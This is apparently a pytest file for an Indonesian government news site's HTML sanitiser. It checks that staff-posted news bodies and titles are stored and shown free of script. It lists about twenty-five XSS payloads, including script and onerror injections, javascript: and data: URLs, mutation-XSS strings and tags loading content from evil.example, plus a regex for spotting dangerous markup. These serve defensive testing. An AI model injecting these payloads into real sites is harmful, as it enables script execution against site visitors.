"""XSS payloads in news bodies: stored clean, shown clean, links still work."""
from __future__ import annotations

import re

import pytest
from sqlalchemy import select

from conftest import csrf_token_from
from jdih.extensions import db
from jdih.news.models import News
from jdih.news.sanitize import clean_html

PAYLOADS = [
    '<script>alert("xss")</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://ok.example/a.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="  JaVaScRiPt:alert(1)">klik</a>',
    '<a href="java&#x09;script:alert(1)">klik</a>',
    '<svg onload=alert(1)><circle r="1"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<p style="background:url(javascript:alert(1))">gaya</p>',
    '<div style="width: expression(alert(1))">gaya</div>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<<script>script>alert(1)<</script>/script>',
    '<p><b>tebal<i>miring</b>sisa</i><a href="https://ok.example" onclick="alert(1)">ok',
    '<body onload=alert(1)>isi',
    '<form action="https://evil.example"><input name=x><button>kirim</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<img src="mailto:a@b.c">',
    '<!-- <script>alert(1)</script> -->komentar',
    '<style>@import "https://evil.example/x.css";</style>gaya',
]
DANGEROUS = re.compile(r"<script|<svg|<iframe|<object|<style|<form|<meta|<body|<math|\son\w+\s*=|"
                       r"javascript:|vbscript:|data:|expression\(|style=", re.IGNORECASE)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitiser_removes_the_payload(payload):
    cleaned = clean_html(payload)
    assert not DANGEROUS.search(cleaned), cleaned
    # Sanitising is stable: cleaning again changes nothing.
    assert clean_html(cleaned) == cleaned


def test_allowed_markup_survives():
    html = ('<h2>Judul</h2><p>Teks <strong>tebal</strong> <em>miring</em> <u>garis</u><br>baris</p>'
            '<ul><li>satu</li></ul><ol><li>dua</li></ol><blockquote>kutipan</blockquote>'
            '<a href="https://kpu.go.id" title="KPU">KPU</a> <a href="mailto:jdih@kpu.go.id">surel</a>'
            '<img src="https://kpu.go.id/foto.jpg" alt="Foto">')
    cleaned = clean_html(html)
    for fragment in ("<h2>Judul</h2>", "<strong>tebal</strong>", "<em>miring</em>", "<u>garis</u>", "<br>",
                     "<li>satu</li>", "<blockquote>kutipan</blockquote>",
                     '<a href="https://kpu.go.id" title="KPU" rel="noopener noreferrer">KPU</a>',
                     '<a href="mailto:jdih@kpu.go.id" rel="noopener noreferrer">surel</a>',
                     '<img src="https://kpu.go.id/foto.jpg" alt="Foto">'):
        assert fragment in cleaned


def test_payloads_posted_by_staff_are_stored_and_shown_clean(app, client, auth, users):
    auth.login(users["editor"])
    page = client.get("/staf/berita/baru").get_data(as_text=True)
    body = "<p>Sesuai UU Nomor 7 Tahun 2017.</p>" + "".join(PAYLOADS)
    response = client.post("/staf/berita/baru", data={
        "title": "Uji <script>alert(1)</script>", "news_date": "2025-10-24", "body": body,
        "csrf_token": csrf_token_from(page)})
    assert response.status_code == 302
    edit_url = response.headers["Location"]
    page = client.get(edit_url).get_data(as_text=True)
    client.post(edit_url + "/terbitkan", data={"csrf_token": csrf_token_from(page)})
    with app.app_context():
        news = db.session.scalar(select(News))
        assert not DANGEROUS.search(news.body_html)
        slug = news.slug
    auth.logout()
    html = client.get(f"/berita/{slug}").get_data(as_text=True)
    article = html.split('<div class="news-body">', 1)[1].split("</article>", 1)[0]
    assert not DANGEROUS.search(article)
    # The title is escaped by the template, never interpreted.
    assert "Uji &lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert" not in html


@pytest.mark.parametrize("payload", ['<p>Lihat <a href="javascript:alert(1)">tautan</a> ini.</p>',
                                     '<p>Lihat <a href="vbscript:x">tautan</a> ini.</p>',
                                     '<p>Lihat <a href="/relatif">tautan</a> ini.</p>'])
def test_a_removed_link_leaves_plain_text_not_an_empty_anchor(payload):
    cleaned = clean_html(payload)
    assert "<a" not in cleaned
    assert cleaned == "<p>Lihat tautan ini.</p>"


def test_plain_text_typed_in_the_textarea_keeps_its_paragraphs(app, client, auth, users):
    auth.login(users["editor"])
    page = client.get("/staf/berita/baru").get_data(as_text=True)
    body = "Paragraf pertama & rapat.\r\n\r\nParagraf kedua,\r\nbaris berikutnya."
    response = client.post("/staf/berita/baru", data={
        "title": "Teks polos", "news_date": "2025-10-24", "body": body, "credit": "(rhd/ed)",
        "csrf_token": csrf_token_from(page)})
    assert response.status_code == 302
    with app.app_context():
        news = db.session.scalar(select(News))
        assert news.body_html == ("<p>Paragraf pertama &amp; rapat.</p>"
                                  "<p>Paragraf kedua,<br>baris berikutnya.</p>")
        assert news.credit == "rhd/ed"
        edit_url = response.headers["Location"]
        slug = news.slug
    page = client.get(edit_url).get_data(as_text=True)
    client.post(edit_url + "/terbitkan", data={"csrf_token": csrf_token_from(page)})
    html = client.get(f"/berita/{slug}").get_data(as_text=True)
    assert "(rhd/ed)" in html and "((rhd/ed))" not in html
